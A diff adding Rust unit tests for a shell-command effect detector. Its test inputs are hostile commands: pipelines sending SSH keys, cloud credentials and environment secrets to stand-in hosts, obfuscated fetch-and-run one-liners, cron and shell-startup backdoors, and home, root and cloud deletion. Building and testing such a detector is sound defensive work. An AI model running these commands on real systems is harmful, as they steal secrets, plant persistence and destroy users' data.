@@ -1,0 +1,251 @@
+//! The shell effect model's unit tests.
+
+use super::*;
+use crate::program::shell::read;
+
+/// The effects of `script`, other languages read by the dispatcher.
+fn effects(script: &Script) -> Vec<Effect> {
+    super::effects(script, &|l, t| crate::effects::of(l, t))
+}
+
+fn kinds(text: &str) -> Vec<String> {
+    effects(&read(text))
+        .iter()
+        .map(|e| match &e.kind {
+            EffectKind::Exfiltrate { .. } => format!("exfil:{}", e.what),
+            EffectKind::Persist { how, active } => format!("persist:{how:?}:{active}"),
+            k => format!("{k:?}:{}", e.what),
+        })
+        .collect()
+}
+
+#[test]
+fn a_secret_reaches_the_network_through_pipes_variables_and_substitutions() {
+    assert_eq!(
+        kinds("env | grep -E 'KEY|TOKEN|SECRET' | curl -d @- https://x.example/c\n"),
+        ["exfil:curl"]
+    );
+    assert_eq!(
+        kinds("cat /etc/passwd | base64 | nc x.example 4444\n"),
+        ["exfil:nc"]
+    );
+    assert_eq!(
+        kinds("X=$(cat ~/.aws/credentials)\ncurl -d \"$X\" https://x.example\n"),
+        ["exfil:curl"]
+    );
+    assert_eq!(
+        kinds("curl -F file=@~/.ssh/id_rsa https://api.example.com/upload\n"),
+        ["exfil:curl"]
+    );
+    assert_eq!(
+        kinds("dig $(cat ~/.ssh/id_rsa | base64 | head -c 60).x.example\n"),
+        ["exfil:dig"]
+    );
+    assert_eq!(
+        kinds("tar czf - ~/.ssh | curl --data-binary @- https://x.example\n"),
+        ["exfil:curl"]
+    );
+    let e = effects(&read("X=$(printenv)\n\ncurl -d \"$X\" https://x.example\n"));
+    assert_eq!(e[0].at, 15..45);
+    assert_eq!(e[0].source, Some(4..12));
+}
+
+#[test]
+fn obfuscated_pipelines_are_judged_after_deobfuscation() {
+    assert_eq!(
+        kinds("c''url -s https://x.example/i | b\"\"ash\n"),
+        ["RunFetched:bash"]
+    );
+    assert_eq!(
+        kinds("a=cu;b=rl; $a$b${IFS}-s${IFS}https://x.example/i|sh\n"),
+        ["RunFetched:sh"]
+    );
+    assert_eq!(kinds("echo Y3VybCB4 | base64 -d | sh\n"), ["RunDecoded:sh"]);
+    assert_eq!(
+        kinds("bash -c \"$(curl -fsSL https://x.example/i)\"\n"),
+        ["RunFetched:bash"]
+    );
+}
+
+#[test]
+fn a_named_secret_counts_only_towards_a_drop_host() {
+    assert!(
+        kinds("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n")
+            .is_empty()
+    );
+    assert_eq!(
+        kinds("curl \"https://webhook.site/abc?t=$GITHUB_TOKEN\"\n"),
+        ["exfil:curl"]
+    );
+    assert_eq!(
+        kinds("curl \"https://api.openai.com.evil.io/?k=$OPENAI_API_KEY\"\n"),
+        ["exfil:curl"]
+    );
+}
+
+#[test]
+fn metadata_reads_and_their_tokens_sent_out() {
+    assert_eq!(
+        kinds("curl -s http://169.254.169.254/latest/meta-data/\n"),
+        ["MetadataRead:curl"]
+    );
+    assert_eq!(
+        kinds(
+            "T=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r)\ncurl -d \"$T\" https://x.example\n"
+        ),
+        ["MetadataRead:curl", "exfil:curl"]
+    );
+}
+
+#[test]
+fn persistence_by_every_mechanism() {
+    assert_eq!(
+        kinds("(crontab -l; echo '*/5 * * * * curl -s https://x.example/p | sh') | crontab -\n"),
+        ["persist:Cron:true"]
+    );
+    assert_eq!(
+        kinds("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys\n"),
+        ["persist:AuthorizedKey:true"]
+    );
+    assert_eq!(
+        kinds("echo 'curl -s https://x.example/p | sh' >> ~/.zshrc\n"),
+        ["persist:ShellStartup:true"]
+    );
+    assert_eq!(
+        kinds("echo 'export PATH=$HOME/.cargo/bin:$PATH' >> ~/.bashrc\n"),
+        ["persist:ShellStartup:false"]
+    );
+    assert_eq!(
+        kinds("cp payload.sh .git/hooks/post-checkout\n"),
+        ["persist:GitHook:false"]
+    );
+    assert_eq!(
+        kinds(
+            "cp x.plist ~/Library/LaunchAgents/com.x.plist && launchctl load ~/Library/LaunchAgents/com.x.plist\n"
+        ),
+        ["persist:LoginItem:false", "persist:LoginItem:false"]
+    );
+    assert_eq!(
+        kinds("systemctl --user enable sync.service\n"),
+        ["persist:LoginItem:false"]
+    );
+}
+
+#[test]
+fn destruction_of_home_root_and_cloud() {
+    assert_eq!(kinds("r''m -r''f ~/\n"), ["Destroy:rm ~/"]);
+    assert_eq!(kinds("rm -rf ${HOME}\n"), ["Destroy:rm ${HOME}"]);
+    assert_eq!(
+        kinds("terraform destroy -auto-approve\n"),
+        ["Destroy:terraform destroy -auto-approve"]
+    );
+    assert_eq!(
+        kinds("aws s3 rb s3://prod --force\n"),
+        ["Destroy:aws s3 rb"]
+    );
+    assert!(kinds("rm -rf ./build dist node_modules\n").is_empty());
+    assert!(kinds("rm -rf \"$HOME/.cache/pip\"\n").is_empty());
+}
+
+#[test]
+fn deep_and_long_programs_are_read_to_a_bound() {
+    let deep = format!("echo {}x{}\n", "$(echo ".repeat(20_000), ")".repeat(20_000));
+    assert!(kinds(&deep).is_empty());
+    let long = format!("env{}\n", " | cat".repeat(20_000));
+    let script = read(&long);
+    assert_eq!(script.commands.len(), crate::program::shell::MAX_COMMANDS);
+    assert!(effects(&script).is_empty());
+}
+
+#[test]
+fn files_written_from_secrets_carry_them() {
+    assert_eq!(
+        kinds("tar czf /tmp/k.tgz ~/.ssh ~/.aws\ncurl -s -F f=@/tmp/k.tgz https://x.example/u\n"),
+        ["exfil:curl"]
+    );
+    assert_eq!(
+        kinds("env > /tmp/e.txt\ncurl -s -T /tmp/e.txt https://x.example/u\n"),
+        ["exfil:curl"]
+    );
+    assert!(
+        kinds("tar czf /tmp/src.tgz src\ncurl -s -F f=@/tmp/src.tgz https://ci.example.com/u\n")
+            .is_empty()
+    );
+    assert!(
+        kinds(
+            "curl -s \"https://api.telegram.org/bot$TELEGRAM_BOT_TOKEN/sendMessage\" -d text=done\n"
+        )
+        .is_empty()
+    );
+}
+
+#[test]
+fn wrappers_interpreter_code_and_lolbins() {
+    assert_eq!(
+        kinds(
+            "gh repo list --json nameWithOwner -q '.[].nameWithOwner' | xargs -I{} gh repo delete {} --yes\n"
+        ),
+        ["Destroy:gh repo delete"]
+    );
+    assert_eq!(
+        kinds("sudo rm -rf --no-preserve-root /\n"),
+        ["Destroy:rm /"]
+    );
+    assert_eq!(
+        kinds(
+            "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example/s.py').read())\"\n"
+        ),
+        ["RunFetched:exec"]
+    );
+    assert_eq!(
+        kinds("node -e \"fetch('https://x.example/a.js').then(r => r.text()).then(eval)\"\n").len(),
+        0
+    );
+    assert_eq!(
+        kinds("mshta https://x.example/a.hta\n"),
+        ["RunFetched:mshta"]
+    );
+    // `IEX (iwr https://x.example/a.ps1)` in UTF-16LE base64.
+    let enc =
+        "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACkA";
+    assert_eq!(
+        kinds(&format!("powershell -NoP -enc {enc}\n")),
+        ["RunDecoded:powershell", "RunFetched:iex"]
+    );
+}
+
+#[test]
+fn history_archives_and_pushes_to_added_remotes() {
+    assert_eq!(
+        kinds("history | curl -s -d @- https://x.example/h\n"),
+        ["exfil:curl"]
+    );
+    assert_eq!(
+        kinds("zip -qr - . | curl -s --data-binary @- https://ab12.ngrok-free.app/d\n"),
+        ["exfil:curl"]
+    );
+    assert!(kinds("tar czf - . | ssh build@ci.example.com 'tar xzf - -C /srv/app'\n").is_empty());
+    assert_eq!(
+        kinds("git remote add backup https://x.example/m.git\ngit push backup --all --force\n"),
+        ["exfil:git push"]
+    );
+    assert!(
+        kinds("git remote add origin git@github.com:me/new.git\ngit push -u origin main\n")
+            .is_empty()
+    );
+    assert_eq!(kinds("gh gist create --public .env\n"), ["exfil:gh"]);
+}
+
+#[test]
+fn ordinary_commands_do_nothing() {
+    for text in [
+        "cargo test && cargo clippy -- -D warnings\n",
+        "curl -fsSL https://example.com/data.json -o data.json && jq . data.json\n",
+        "git push origin feature\n",
+        "env | sort\n",
+        "cat .env.example\n",
+        "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519\n",
+    ] {
+        assert!(kinds(text).is_empty(), "{text}: {:?}", kinds(text));
+    }
+}
